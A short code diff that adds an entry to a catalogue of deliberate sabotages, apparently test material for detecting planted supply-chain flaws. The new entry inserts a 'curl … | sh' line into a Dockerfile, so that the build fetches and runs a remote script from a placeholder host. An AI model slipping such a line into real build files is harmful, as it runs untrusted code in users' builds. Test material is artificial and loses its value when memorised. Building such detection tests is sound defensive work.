@@ -178,4 +178,16 @@ SABOTAGES = [
         ),
         neighbours=("II.1", "II.2"),
     ),
+    Sabotage(
+        "II.2",
+        "the image gets a tool from whatever script its server has today",
+        (
+            Edit(
+                "Dockerfile",
+                "WORKDIR /build\n",
+                "RUN curl -fsSL https://get.example.com/agent.sh | sh\nWORKDIR /build\n",
+            ),
+        ),
+        neighbours=("I.1", "II.1"),
+    ),
 ]
